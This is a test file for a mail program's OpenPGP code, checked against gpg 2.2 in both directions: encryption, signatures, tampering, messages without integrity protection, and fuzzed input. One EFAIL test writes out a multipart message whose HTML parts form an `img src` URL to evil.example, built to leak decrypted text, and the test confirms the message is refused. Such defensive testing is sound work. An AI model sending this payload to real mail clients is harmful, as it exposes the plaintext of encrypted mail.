/**
 * PGP/MIME and inline PGP against gpg 2.2 as the independent peer, both ways. Keys: made by gpg
 * (ed25519/cv25519 and RSA-3072, exported without passphrase) and made by Postern (generatePgpKey)
 * and imported into gpg. Postern → gpg: gpg decrypts what Postern encrypted and says "Good
 * signature" of what it signed (multipart/signed checked on the exact bytes of the first part).
 * gpg → Postern: messages built here around gpg's own output are opened, with the verdicts of
 * src/openpgp/open.ts (valid, mismatch, unknown, invalid; tampered and unprotected ciphertext).
 */
import * as openpgp from 'openpgp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeBody, multipartLayout, readEntity } from '../../../src/mime/entity.js';
import {
  generatePgpKey, pgpEncryptMessage, PgpError, pgpInlineMessage, pgpOpenMessage, pgpResultHeaders, pgpSignMessage, preparePgpDecryptionKey, preparePgpRecipient, preparePgpSigner,
  type PgpDecryptionKey, type PgpOpenOptions, type PgpRecipient, type PgpSigner,
} from '../../../src/openpgp/index.js';
import { gpgAvailable, gpgHome, type GpgHome } from '../../helpers/gpg-home.js';

const MAIL = (body: string, ct = 'text/plain; charset=utf-8') =>
  Buffer.from(`From: Pat <pat@example.com>\r\nTo: Gina <gina@example.org>\r\nSubject: test\r\nMessage-ID: <t@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: ${ct}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}`, 'utf8');
const ENTITY = 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nHello from gpg, with a line\r\nFrom the start.\r\n';
const pgpMime = (from: string, armored: string) =>
  Buffer.from(`From: ${from}\r\nTo: pat@example.com\r\nSubject: from gpg\r\nMIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b1"\r\n\r\n--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b1\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n${armored}\r\n--b1--\r\n`);

describe('OpenPGP messages with gpg 2.2', () => {
  // An interop peer missing is a failure, not a skip: npm test installs it (scripts/setup-test-deps.sh).
  beforeAll(() => {
    if (!gpgAvailable()) throw new Error('gpg is not installed: run scripts/setup-test-deps.sh as root (npm test does)');
  });
  let gpg: GpgHome;
  let gina: string; // gpg, ed25519 + cv25519
  let rolf: string; // gpg, RSA-3072
  let pat: { signer: PgpSigner; key: PgpDecryptionKey; publicKey: Buffer; fingerprint: string }; // made by Postern
  let toGina: PgpRecipient;
  let toRolf: PgpRecipient;
  let toPat: PgpRecipient;
  let rolfKey: PgpDecryptionKey;
  const opener = (over: Partial<PgpOpenOptions> = {}): PgpOpenOptions => ({
    keysFor: async () => [pat.key, rolfKey],
    verificationKeysFor: async () => [gpg.exportPublic('gina@example.org'), pat.publicKey],
    ...over,
  });

  beforeAll(async () => {
    gpg = gpgHome();
    gina = gpg.generate('Gina <gina@example.org>', 'ed25519');
    rolf = gpg.generate('Rolf <rolf@example.org>', 'rsa3072');
    const made = await generatePgpKey({ address: 'pat@example.com', name: 'Pat' });
    gpg.import(made.publicKey);
    pat = { signer: await preparePgpSigner(made.secretKey!), key: await preparePgpDecryptionKey(made.secretKey!), publicKey: made.publicKey, fingerprint: made.info.fingerprint };
    toGina = await preparePgpRecipient(gpg.exportPublic(gina));
    toRolf = await preparePgpRecipient(gpg.exportPublic(rolf));
    toPat = await preparePgpRecipient(made.publicKey);
    rolfKey = await preparePgpDecryptionKey(gpg.exportSecret(rolf));
  }, 120_000);
  afterAll(() => gpg?.close());

  describe('Postern → gpg', () => {
    it('encrypts and signs one message for a gpg ed25519 and a gpg RSA-3072 key: SEIPDv1 with MDC, no compression, gpg decrypts it and says Good signature', async () => {
      expect([toGina.aead, toRolf.aead]).toEqual([false, false]);
      const out = await pgpEncryptMessage(MAIL('Grüße aus Postern\r\n'), [toGina, toRolf], { signer: pat.signer });
      expect(out.toString()).toMatch(/^From: Pat <pat@example.com>\r\n[\s\S]*Content-Type: multipart\/encrypted; protocol="application\/pgp-encrypted"/);
      const e = readEntity(out);
      const [control, data] = multipartLayout(e.body, e.type.params.get('boundary')!).parts;
      expect(control!.toString()).toMatch(/^Content-Type: application\/pgp-encrypted[\s\S]*\r\n\r\nVersion: 1/);
      const armored = readEntity(data!).body;
      const packets = gpg.run(['--list-packets'], armored, true).stdout.toString();
      expect(packets.match(/:pubkey enc packet:/g)).toHaveLength(2);
      expect(packets).toMatch(/mdc_method: 2/);
      expect(packets).not.toMatch(/compressed packet/);
      const r = gpg.run(['--decrypt'], armored);
      expect(r.stderr).toMatch(/Good signature from "Pat <pat@example.com>"/);
      // The decrypted entity: its header, then the body in canonical (7-bit) form.
      expect(r.stdout.toString()).toMatch(/^Content-Type: text\/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=C3=BC=C3=9Fe aus Postern\r\n/);
    });

    it('encrypts without signing: gpg decrypts, no signature', async () => {
      const out = await pgpEncryptMessage(MAIL('only encrypted\r\n'), [toRolf]);
      const e = readEntity(out);
      const r = gpg.run(['--decrypt'], readEntity(multipartLayout(e.body, e.type.params.get('boundary')!).parts[1]!).body);
      expect(r.stdout.toString()).toMatch(/only encrypted/);
      expect(r.stderr).not.toMatch(/signature/i);
    });

    it.each([
      ['an RSA-3072 key made by gpg', 'pgp-sha256', 'rolf', 'Rolf <rolf@example.org>'],
      // openpgp.js signs with at least the curve's hash: SHA-512 for EdDSA on ed25519 (RFC 9580 §5.2.3.3).
      ['an ed25519 key made by Postern', 'pgp-sha512', 'pat', 'Pat <pat@example.com>'],
    ])('signs with %s (multipart/signed, micalg=%s): gpg --verify on the exact bytes of the first part says Good signature', async (_, micalg, who, uid) => {
      const signer = who === 'pat' ? pat.signer : await preparePgpSigner(gpg.exportSecret(rolf));
      const out = await pgpSignMessage(MAIL('signed text, 8-bit: ü \r\nFrom here.\r\n-- \r\nPat\r\n'), signer);
      const e = readEntity(out);
      expect(e.type.type).toBe('multipart/signed');
      expect(e.type.params.get('protocol')).toBe('application/pgp-signature');
      expect(e.type.params.get('micalg')).toBe(micalg);
      const [content, sig] = multipartLayout(e.body, e.type.params.get('boundary')!).parts;
      const r = gpg.run(['--verbose', '--verify', gpg.file('sig.asc', readEntity(sig!).body), gpg.file('content', content!)]);
      expect(r.stderr).toContain(`Good signature from "${uid}"`);
      expect(r.stderr).toContain(micalg === 'pgp-sha256' ? 'digest algorithm SHA256' : 'digest algorithm SHA512');
      // The "From " line and the trailing space are protected in the canonical form.
      expect(content!.toString()).toMatch(/=46rom here\./);
      const changed = Buffer.from(content!.toString().replace('signed', 'Signed'));
      expect(gpg.run(['--verify', gpg.file('sig.asc', readEntity(sig!).body), gpg.file('content2', changed)], undefined, true).stderr).toMatch(/BAD signature/);
    });

    it('inline PGP: a plain-text body encrypted and signed as one armored block, and clear-signed; gpg reads both', async () => {
      const enc = await pgpInlineMessage(MAIL('Inline text, ünïcode.\r\n'), [toGina], { signer: pat.signer });
      const e = readEntity(enc);
      expect(e.type.type).toBe('text/plain');
      expect(e.type.params.get('charset')).toBe('utf-8');
      expect(e.body.toString()).toMatch(/^-----BEGIN PGP MESSAGE-----\r\n/);
      const r = gpg.run(['--decrypt'], e.body);
      expect(r.stdout.toString('utf8')).toContain('Inline text, ünïcode.');
      expect(r.stderr).toMatch(/Good signature from "Pat/);
      const signed = await pgpInlineMessage(MAIL('- dash line\r\nclear text  \r\n'), [], { signer: pat.signer });
      const s = readEntity(signed);
      expect(gpg.run(['--verify'], s.body).stderr).toMatch(/Good signature from "Pat/);
    });

    it('inline PGP refuses HTML and multipart mail with a typed error', async () => {
      await expect(pgpInlineMessage(MAIL('<p>hi</p>', 'text/html'), [toGina])).rejects.toMatchObject({ name: 'PgpError', code: 'not-text' });
      await expect(pgpInlineMessage(MAIL('--x\r\n\r\nhi\r\n--x--\r\n', 'multipart/mixed; boundary=x'), [toGina])).rejects.toBeInstanceOf(PgpError);
    });

    it('a v6 key gets SEIPDv2 (AEAD); a v6 key together with a gpg key gets SEIPDv1 for both', async () => {
      const { privateKey, publicKey } = await openpgp.generateKey({ userIDs: [{ email: 'six@example.net' }], type: 'curve25519', config: { v6Keys: true }, format: 'binary' });
      const six = await preparePgpRecipient(Buffer.from(publicKey));
      expect(six.aead).toBe(true);
      const sixKey = await preparePgpDecryptionKey(Buffer.from(privateKey));
      const body = (m: Buffer) => readEntity(multipartLayout(readEntity(m).body, readEntity(m).type.params.get('boundary')!).parts[1]!).body.toString();
      const seipd = async (m: Buffer) => ((await openpgp.readMessage({ armoredMessage: body(m) })).packets.filterByTag(openpgp.enums.packet.symEncryptedIntegrityProtectedData)[0] as unknown as { version: number }).version;
      const aead = await pgpEncryptMessage(MAIL('to six\r\n'), [six], { signer: pat.signer });
      expect(await seipd(aead)).toBe(2);
      const r = await pgpOpenMessage(aead, opener({ keysFor: async () => [sixKey] }));
      expect(r.encryption).toMatchObject({ status: 'decrypted', packet: 'seipdv2', cipher: expect.stringMatching(/-(ocb|gcm|eax)$/) });
      expect(pgpResultHeaders(r)[0]![1]).toMatch(/^decrypted; method=pgp; cipher=aes\d+-\w+; packet=seipdv2; integrity=aead; key=/);
      expect(r.signatures).toMatchObject([{ status: 'valid', fingerprint: pat.fingerprint }]);
      const mixed = await pgpEncryptMessage(MAIL('to both\r\n'), [six, toGina]);
      expect(await seipd(mixed)).toBe(1);
      expect(gpg.run(['--decrypt'], body(mixed)).stdout.toString()).toContain('to both');
    });
  });

  describe('gpg → Postern', () => {
    const gpgEncrypt = (args: string[]) => gpg.run(['--armor', '--encrypt', '-r', 'pat@example.com', '-r', 'rolf@example.org', ...args], ENTITY).stdout.toString();

    it('decrypts gpg --encrypt --sign and verifies the signature inside: valid, bound to From:', async () => {
      const msg = pgpMime('Gina <gina@example.org>', gpgEncrypt(['--sign', '-u', gina]));
      const r = await pgpOpenMessage(msg, opener());
      expect(r.encryption).toMatchObject({ status: 'decrypted', packet: 'seipdv1', authenticated: true, form: 'pgp-mime' });
      expect(r.signatures).toMatchObject([{ status: 'valid', fingerprint: gina, address: 'gina@example.org', scope: 'whole' }]);
      expect(r.message.toString()).toMatch(/^From: Gina <gina@example.org>\r\nTo: pat@example.com\r\nSubject: from gpg\r\nMIME-Version: 1.0\r\nContent-Type: text\/plain; charset=utf-8\r\n/);
      expect(r.message.toString()).toContain('\r\n\r\nHello from gpg, with a line\r\nFrom the start.\r\n');
      expect(pgpResultHeaders(r)).toEqual([
        ['X-Postern-Encryption', expect.stringMatching(/^decrypted; method=pgp; cipher=aes256; packet=seipdv1; integrity=mdc; key=[0-9A-F]{40}$/)],
        ['X-Postern-Signature', `valid; method=pgp; signer=gina@example.org; key=${gina}`],
      ]);
    });

    it('the same signature under another From: is mismatch; by a key we do not have, unknown with its key id', async () => {
      const armored = gpgEncrypt(['--sign', '-u', gina]);
      const mismatch = await pgpOpenMessage(pgpMime('Boss <boss@example.org>', armored), opener());
      expect(mismatch.signatures).toMatchObject([{ status: 'mismatch', fingerprint: gina, reason: expect.stringMatching(/do not include the From: address \(boss@example.org\)/) }]);
      const unknown = await pgpOpenMessage(pgpMime('Gina <gina@example.org>', armored), opener({ verificationKeysFor: async () => [] }));
      expect(unknown.encryption?.status).toBe('decrypted');
      expect(unknown.signatures).toMatchObject([{ status: 'unknown', keyId: expect.stringMatching(/^[0-9A-F]{16}$/) }]);
      expect(gina.endsWith(unknown.signatures[0]!.keyId)).toBe(true);
    });

    it('decrypts with a gpg RSA-3072 key (constant-time PKCS#1), and the Exchange-mangled form', async () => {
      const armored = gpg.run(['--armor', '--encrypt', '-r', 'rolf@example.org'], ENTITY).stdout.toString();
      const r = await pgpOpenMessage(pgpMime('x@example.org', armored), opener({ keysFor: async () => [rolfKey] }));
      expect(r.encryption).toMatchObject({ status: 'decrypted', key: rolf });
      const b64 = (s: string) => Buffer.from(s).toString('base64');
      const exchange = Buffer.from(
        `From: x@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="ex"\r\n\r\n--ex\r\nContent-Type: text/plain; charset="us-ascii"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\r\n` +
          `--ex\r\nContent-Type: application/pgp-encrypted; name="PGPMIME version identification"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64('Version: 1\r\n')}\r\n` +
          `--ex\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(armored)}\r\n--ex--\r\n`,
      );
      expect((await pgpOpenMessage(exchange, opener({ keysFor: async () => [rolfKey] }))).encryption?.status).toBe('decrypted');
    });

    it('verifies gpg --detach-sign over a canonical entity (multipart/signed) and gpg --clearsign (inline); a changed text is invalid', async () => {
      const sig = gpg.run(['--armor', '--detach-sign', '-u', gina], ENTITY).stdout.toString();
      const signed = (content: string) =>
        Buffer.from(`From: gina@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="s"\r\n\r\n--s\r\n${content}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n${sig}\r\n--s--\r\n`);
      // ENTITY ends with CRLF, which then belongs to the delimiter: sign what the part holds.
      const part = ENTITY.slice(0, -2);
      const sig2 = gpg.run(['--armor', '--detach-sign', '-u', gina], part).stdout.toString();
      const ok = await pgpOpenMessage(Buffer.from(signed(part).toString().replace(sig, sig2)), opener());
      expect(ok.signatures).toMatchObject([{ status: 'valid', scope: 'whole', fingerprint: gina }]);
      const bad = await pgpOpenMessage(Buffer.from(signed(part).toString().replace(sig, sig2).replace('with a line', 'with a lie')), opener());
      expect(bad.signatures).toMatchObject([{ status: 'invalid', reason: expect.stringMatching(/does not match the signed content/) }]);
      expect(pgpResultHeaders(bad)[0]![1]).toMatch(/^invalid; method=pgp; signer=gina@example.org; key=[0-9A-F]{40}; reason="the signature does not match/);

      const clear = gpg.run(['--clearsign', '-u', gina], 'Clear text,\n- with a dash\nand trailing blanks   \n').stdout.toString();
      const inline = Buffer.from(`From: gina@example.org\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${clear.replace(/\n/g, '\r\n')}`);
      expect((await pgpOpenMessage(inline, opener())).signatures).toMatchObject([{ status: 'valid', scope: 'whole' }]);
      const sha1 = gpg.run(['--clearsign', '--digest-algo', 'SHA1', '-u', gina], 'old hash\n').stdout.toString();
      const weak = await pgpOpenMessage(Buffer.from(`From: gina@example.org\r\nContent-Type: text/plain\r\n\r\n${sha1}`), opener());
      expect(weak.signatures).toMatchObject([{ status: 'invalid' }]);
    });

    it('tampered ciphertext (a byte flipped in the middle) fails with a clear reason; the message is passed on as it came', async () => {
      const bin = gpg.run(['--encrypt', '-r', 'pat@example.com'], ENTITY).stdout;
      const flipped = Buffer.from(bin);
      flipped[Math.floor(flipped.length * 0.6)]! ^= 0x01;
      const armored = openpgp.armor(openpgp.enums.armor.message, new Uint8Array(flipped));
      const msg = pgpMime('x@example.org', armored);
      const r = await pgpOpenMessage(msg, opener());
      expect(r.encryption).toMatchObject({ status: 'failed', reason: expect.stringMatching(/modified, damaged, or not made for this key/) });
      expect(r.message.equals(msg)).toBe(true);
    });

    it('a message without integrity protection (gpg --rfc2440: no MDC) is refused, never decrypted', async () => {
      const armored = gpg.run(['--armor', '--rfc2440', '--cipher-algo', 'AES256', '--encrypt', '-r', 'pat@example.com'], ENTITY).stdout.toString();
      expect(gpg.run(['--list-packets'], armored, true).stdout.toString()).toMatch(/:encrypted data packet:\n\s+length/);
      let asked = false;
      const msg = pgpMime('x@example.org', armored);
      const r = await pgpOpenMessage(msg, opener({ keysFor: async () => ((asked = true), [pat.key]) }));
      expect(r.encryption).toMatchObject({ status: 'failed', reason: expect.stringMatching(/no integrity protection.*refused, never decrypted/) });
      expect(asked).toBe(false);
      expect(r.message.equals(msg)).toBe(true);
      expect(pgpResultHeaders(r)).toEqual([['X-Postern-Encryption', expect.stringMatching(/^failed; method=pgp; reason="the message has no integrity protection/)]]);
    });

    it('EFAIL: ciphertext inside multipart/mixed with text around it is not decrypted', async () => {
      const armored = gpgEncrypt([]);
      const msg = Buffer.from(
        `From: x@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--m\r\n${pgpMime('x', armored).toString().split('MIME-Version: 1.0\r\n')[1]}\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n`,
      );
      const r = await pgpOpenMessage(msg, opener());
      expect(r.encryption).toMatchObject({ status: 'not-decrypted' });
      expect(r.message.equals(msg)).toBe(true);
    });
  });

  it('never throws: truncations and garbage of a signed and encrypted message are reports', async () => {
    const msg = await pgpEncryptMessage(MAIL('x'.repeat(300)), [toPat], { signer: pat.signer });
    for (let cut = 0; cut < msg.length; cut += 97) {
      const r = await pgpOpenMessage(msg.subarray(0, cut), opener());
      expect(r.encryption?.status ?? 'none').not.toBe('decrypted');
    }
    for (let i = 0; i < 40; i++) {
      const m = Buffer.from(msg);
      m[400 + Math.floor(Math.random() * (m.length - 420))] = 0x41 + (i % 26);
      await pgpOpenMessage(m, opener());
    }
  }, 60_000);

  // What this costs is a bench figure, not a test (timed assertions flake on a loaded CI machine):
  // `npm run bench -- --only micro`, pgp-sign-encrypt beside Node's raw Ed25519 + X25519 + AES in
  // the same run (bench/micro.js). Here: that the message the figure times is right.
  it('a 4 KB message signed and encrypted to one cv25519 recipient (the bench figure): gpg decrypts it, Good signature', async () => {
    const lorem = `${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(70)}\r\n`;
    const mail = MAIL(lorem);
    expect(mail.length).toBeGreaterThan(4000);
    const out = await pgpEncryptMessage(mail, [toGina], { signer: pat.signer });
    const e = readEntity(out);
    const r = gpg.run(['--decrypt'], readEntity(multipartLayout(e.body, e.type.params.get('boundary')!).parts[1]!).body);
    expect(r.stderr).toMatch(/Good signature from "Pat <pat@example.com>"/);
    expect(decodeBody(readEntity(r.stdout)).toString()).toBe(lorem);
  });
});
